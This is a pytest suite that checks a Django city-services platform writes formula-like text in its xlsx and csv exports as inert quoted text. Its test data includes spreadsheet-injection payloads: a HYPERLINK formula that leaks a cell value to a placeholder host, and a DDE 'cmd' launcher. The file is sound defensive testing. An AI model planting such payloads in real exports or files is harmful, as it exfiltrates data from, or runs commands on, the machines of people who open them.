"""Exports cannot attack the person who opens them (issue 14): every xlsx and csv the product
writes goes through cityplatform.spreadsheets, so text that starts with =, +, -, @, a tab or a
carriage return is text, never a formula; numbers stay numbers; the catalog and rubric files
read back unchanged."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from cityplatform import spreadsheets
from tenants.accounts.models import Role
from tenants.audit.models import Action, AuditEntry
from tests.conftest import PASSWORD

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
DANGEROUS = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "- 身份证",
]


def _login(client, username):
    response = client.post("/admin/login/", {"username": username, "password": PASSWORD})
    assert response.status_code == 302, response.content[:500]
    return client


def _cells(content: bytes):
    """Every cell of every sheet, loaded in full (not read-only: data_type as stored)."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes) -> list:
    """No cell is a formula, none of the sheets' XML carries one, and every string that a
    spreadsheet could take for a formula is text with the quote prefix. Returns the cells."""
    cells = _cells(content)
    assert cells, "the file has no cells"
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    return cells


def _values(cells) -> list:
    return [c.value for c in cells]


# ---------------------------------------------------------------- the helper


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_writes_every_dangerous_prefix_as_quoted_text(value):
    content = spreadsheets.xlsx_bytes(["列"], [[value, "正常文字"]])
    cells = assert_no_formula(content)
    cell = next(c for c in cells if c.row == 2 and c.column == 1)
    assert cell.data_type == "s" and cell.quotePrefix
    # XML turns a bare carriage return into a line feed; every other value reads back as is.
    assert cell.value == value.replace("\r", "\n")
    plain = next(c for c in cells if c.row == 2 and c.column == 2)
    assert plain.value == "正常文字" and not plain.quotePrefix


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_prefixes_every_dangerous_value_with_a_quote_and_reads_back(value):
    content = spreadsheets.csv_bytes(["列"], [[value, "正常文字"]])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + value and rows[1][1] == "正常文字"
    assert spreadsheets.csv_unescape(rows[1][0]) == value


def test_values_already_starting_with_a_quote_round_trip_in_csv():
    for value, written in (("'=1+1", "''=1+1"), ("''-x", "'''-x"), ("'abc", "'abc"), ("'", "'")):
        assert spreadsheets.csv_escape(value) == written
        assert spreadsheets.csv_unescape(written) == value


def test_numbers_and_dates_stay_numbers():
    aware = datetime.datetime(2026, 3, 12, 0, 30, tzinfo=datetime.UTC)
    row = [-5, Decimal("-12.50"), 3.25, True, datetime.date(2026, 3, 12), aware, None, " =1"]
    content = spreadsheets.xlsx_bytes(["a", "b", "c", "d", "e", "f", "g", "h"], [row])
    cells = [c for c in assert_no_formula(content) if c.row == 2]
    assert [c.data_type for c in cells[:6]] == ["n", "n", "n", "b", "d", "d"]
    assert _values(cells[:4]) == [-5, -12.5, 3.25, True]
    assert cells[5].value == datetime.datetime(2026, 3, 12, 8, 30)  # Asia/Shanghai wall time
    assert cells[6].value is None
    assert cells[7].value == " =1" and not cells[7].quotePrefix  # not a formula to Excel
    written = spreadsheets.csv_bytes([], [row]).decode("utf-8-sig").strip()
    assert written == "-5,-12.50,3.25,True,2026-03-12,2026-03-12 08:30:00,, =1"


def test_unknown_format_is_refused():
    with pytest.raises(ValueError, match="xlsx or csv"):
        spreadsheets.table_bytes(["a"], [["x"]], "ods")


def test_import_export_escaping_is_on(settings):
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


# ---------------------------------------------------------------- the audit log


@pytest.fixture
def directors(township, other_township, make_user):
    for center in (township, other_township):
        make_user(center, "director1", Role.CENTER_DIRECTOR)


def test_failed_login_with_a_formula_comes_out_of_the_audit_export_as_text(
    directors, city_admin, city, township, other_township, client_for
):
    attacker = client_for(township, HTTP_USER_AGENT="=1+1")
    response = attacker.post("/admin/login/", {"username": HYPERLINK, "password": "wrong"})
    assert response.status_code == 200  # the form again, with its error
    entry = AuditEntry.objects.get(action=Action.LOGIN_FAILED, actor_username=HYPERLINK)
    assert entry.user_agent == "=1+1" and entry.center_id == township.pk

    director = _login(client_for(township), "director1")
    response = director.get("/admin/audit/export/")
    assert response.status_code == 200
    assert response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    cells = assert_no_formula(response.content)
    by_value = {c.value: c for c in cells}
    assert by_value[HYPERLINK].data_type == "s" and by_value[HYPERLINK].quotePrefix
    assert by_value["=1+1"].data_type == "s" and by_value["=1+1"].quotePrefix
    assert any(isinstance(c.value, datetime.datetime) for c in cells)  # times stay dates

    city_client = _login(client_for(city), "city-admin")
    cells = assert_no_formula(city_client.get("/admin/audit/export/").content)
    assert HYPERLINK in _values(cells) and "=1+1" in _values(cells)

    # Another center's director and anonymous users never get it.
    other = _login(client_for(other_township), "director1")
    assert HYPERLINK not in _values(_cells(other.get("/admin/audit/export/").content))
    response = client_for(township).get("/admin/audit/export/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


# ---------------------------------------------------------------- the ledger


def test_ledger_fee_report_and_history_write_typed_text_as_text(monkeypatch):
    from centers.ledger import exports, selectors

    at = datetime.datetime(2026, 3, 12, 9, 0)
    ledger_row = selectors.LedgerRow(
        receipt_number="QST20260312001", matter_name="=1+1", applicant="-张*", window="@窗口",
        received_at=at, promised_days=5, due_date=datetime.date(2026, 3, 19), status="accepted",
        status_label="已受理", owner=HYPERLINK, urgent=True, closed_late=False,
    )  # fmt: skip
    counts = selectors.DayCounts(window_id=1, label="+1 综合窗口", received=1, accepted=1)
    report = selectors.DayReport(day=at.date(), by_window=[counts], total=counts)
    monkeypatch.setattr(selectors, "ledger_rows", lambda day, window: [ledger_row])
    monkeypatch.setattr(selectors, "day_counts", lambda day, window: report)
    content, rows = exports.ledger_xlsx(at.date())
    cells = assert_no_formula(content)
    assert rows == 1
    values = _values(cells)
    assert {"=1+1", "-张*", "@窗口", HYPERLINK, "+1 综合窗口"} <= set(values)
    assert at in values and 5 in values

    line = selectors.FeeLine(
        fee_id=1, receipt_number="QST20260312001", matter_name="证照工本费", item="-工本费",
        amount=Decimal("10.00"), state="waived", state_label="已减免", window_id=1,
        window="1 综合窗口", at=at, payment_reference="=POS", waiver_reason=HYPERLINK,
        approver="@director1",
    )  # fmt: skip
    totals = selectors.FeeTotals(label="1 综合窗口", waived_count=1, waived_amount=Decimal("10"))
    fees = selectors.FeeReport(day=at.date(), waived=[line], by_window=[totals], total=totals)
    cells = assert_no_formula(exports.fees_xlsx(fees))
    amounts = [c for c in cells if c.value == 10]
    assert amounts and all(c.data_type == "n" and c.number_format == "0.00" for c in amounts)
    assert {"-工本费", HYPERLINK, "@director1"} <= set(_values(cells))

    history = [selectors.HistoryRow("QST20260312001", 3, "=受理", at, "-clerk1")]
    monkeypatch.setattr(selectors, "process_history", lambda first, last: history)
    content, rows = exports.history_xlsx(at.date(), at.date())
    cells = assert_no_formula(content)
    assert rows == 1 and {"=受理", "-clerk1", 3} <= set(_values(cells))


# ---------------------------------------------------------------- the workspace


def test_workspace_exports_write_a_formula_window_name_as_text(
    directors, township, other_township, client_for
):
    from centers.workspace.models import Window

    with schema_context(township.schema_name):
        Window.objects.create(
            number=9, name=HYPERLINK, kind="independent", schedule_note="=1+1",
            schedule_months=[1], schedule_weekdays=[0],
        )  # fmt: skip
    director = _login(client_for(township), "director1")
    for url in ("/admin/workspace/export/windows/?format=xlsx", "/api/v1/windows/export/"):
        response = director.get(url)
        assert response.status_code == 200, url
        values = _values(assert_no_formula(response.content))
        assert HYPERLINK in values and 9 not in values  # import-export renders numbers as text
        assert any(isinstance(v, str) and "=1+1" in v for v in values)
    for url in (
        "/admin/workspace/export/windows/?format=csv",
        "/api/v1/windows/export/?format=csv",
    ):
        response = director.get(url)
        assert response.status_code == 200, url
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
        assert "'" + HYPERLINK in rows[1] and HYPERLINK not in rows[1]

    other = _login(client_for(other_township), "director1")
    response = other.get("/admin/workspace/export/windows/?format=xlsx")
    assert response.status_code == 200 and HYPERLINK not in _values(_cells(response.content))
    response = client_for(township).get("/admin/workspace/export/windows/?format=xlsx")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert client_for(township).get("/api/v1/windows/export/").status_code in (401, 403)


# ---------------------------------------------------------------- rankings and rubrics


def test_ranking_files_write_center_names_and_talk_reasons_as_text(
    city, city_admin, township, client_for
):
    from evaluation.scoring import reports
    from evaluation.scoring.models import RankingEntry, Round, RoundState, Rubric, RubricState

    rubric = Rubric.objects.create(
        name="细则", version=1, state=RubricState.PUBLISHED, total_points=Decimal("100")
    )
    round = Round.objects.create(
        name="=2026年1月", period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 1, 31), rubric=rubric, state=RoundState.PUBLISHED,
        published_at=datetime.datetime(2026, 2, 1, tzinfo=datetime.UTC),
    )  # fmt: skip
    RankingEntry.objects.create(
        round=round, center=township, district=township.parent, center_name=HYPERLINK,
        district_name="-沈北新区", rank_city=1, rank_district=1, total=Decimal("-1.50"),
        bonus=Decimal("0"), sections={"1": {"title": "@场所", "points": "30.00", "max": "30"}},
        flagged_for_talk=True, talk_reason="+区内末位",
    )  # fmt: skip
    admin = _login(client_for(city), "city-admin")
    response = admin.get(f"/admin/evaluation/rounds/{round.pk}/ranking.xlsx")
    assert response.status_code == 200
    cells = assert_no_formula(response.content)
    values = _values(cells)
    assert {"=2026年1月", HYPERLINK, "-沈北新区", "+区内末位"} <= set(values)
    total = next(c for c in cells if c.value == -1.5)
    assert total.data_type == "n"  # a negative number stays a number
    public = reports.ranking_xlsx(round, reports.entries_for(round), include_talk=False)
    values = _values(assert_no_formula(public))
    assert HYPERLINK in values and "+区内末位" not in values
    anonymous = client_for(city).get(f"/admin/evaluation/rounds/{round.pk}/ranking.xlsx")
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]


RUBRIC_CSV = """编码,名称,类型,分值,评分标准,需要佐证,佐证材料,每处扣分,指标,满分值,零分值
1,=场所建设,,,,,,,,,
1.1,+场所面积,,,,,,,,,
1.1.1,大厅面积达标,评分,10,- 面积不少于200平方米,是,@大厅全景照片,,,,
1.1.2,考勤着装,扣分,4,"=HYPERLINK(""http://example.invalid"",""x"")",否,,1,,,
"""


def test_rubric_export_is_safe_and_reads_back_unchanged(city, city_admin, client_for):
    from evaluation.scoring import services
    from evaluation.scoring.tabular import export_rubric, parse_rubric_file

    rubric = services.rubric_import(
        actor=city_admin, name="细则", content=RUBRIC_CSV.encode(), filename="r.csv",
        bonus_cap="0",
    )  # fmt: skip
    original = parse_rubric_file(RUBRIC_CSV.encode(), "r.csv")
    assert original.ok, original.errors
    assert original.rows[2]["guidance"] == "- 面积不少于200平方米"
    content = export_rubric(rubric, "xlsx")
    assert_no_formula(content)
    for fmt in ("xlsx", "csv"):
        parsed = parse_rubric_file(export_rubric(rubric, fmt), f"r.{fmt}")
        assert parsed.ok, parsed.errors
        assert parsed.rows == original.rows, fmt
    admin = _login(client_for(city), "city-admin")
    response = admin.get(f"/admin/evaluation/rubrics/{rubric.pk}/export/")
    assert response.status_code == 200
    assert_no_formula(response.content)
    anonymous = client_for(city).get(f"/admin/evaluation/rubrics/{rubric.pk}/export/")
    assert anonymous.status_code == 302 and "/admin/login/" in anonymous["Location"]


# ---------------------------------------------------------------- the catalog


def test_catalog_export_is_safe_and_reads_back_unchanged(city, city_admin, client_for):
    from catalog_cms.standards.selectors import matter_data, published_templates
    from catalog_cms.standards.services import matter_templates_import
    from catalog_cms.standards.tabular import export_catalog, parse_catalog_file
    from tests.standards.factories import csv_bytes, row

    values = row(
        办理条件="-申请人为本辖区户籍居民",
        办理程序="=1+1\n- 乡镇初审",
        收费标准="+不收费",
        申报材料="- 身份证|1|1|必需\n=户口簿|1|0|可选\n@申请书|1|0|必需",
    )
    matter_templates_import(content=csv_bytes([values]), filename="a.csv", actor="test")
    items = [matter_data(t) for t in published_templates()]
    assert items[0]["materials"][0]["name"] == "- 身份证"
    for fmt in ("xlsx", "csv"):
        content = export_catalog(items, fmt)
        if fmt == "xlsx":
            assert_no_formula(content)
        else:
            assert b"'- \xe8\xba\xab" in content  # '- 身份证
        parsed = parse_catalog_file(content, f"e.{fmt}")
        assert parsed.ok, parsed.errors
        matter = parsed.rows[0]
        assert matter["conditions"] == "-申请人为本辖区户籍居民"
        assert matter["procedure"] == "=1+1\n- 乡镇初审"
        assert matter["fee_standard"] == "+不收费"
        assert [m["name"] for m in matter["materials"]] == ["- 身份证", "=户口簿", "@申请书"]
        summary = matter_templates_import(content=content, filename=f"e.{fmt}", actor="test")
        assert summary.unchanged == ["QST-MZ-001"], fmt

    admin = _login(client_for(city), "city-admin")
    response = admin.get("/admin/standards/templates-export/?file_format=xlsx")
    assert response.status_code == 200
    assert "- 身份证|1|1|必需" in "\n".join(
        str(v) for v in _values(assert_no_formula(response.content))
    )
    response = client_for(city).get("/admin/standards/templates-export/?file_format=xlsx")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
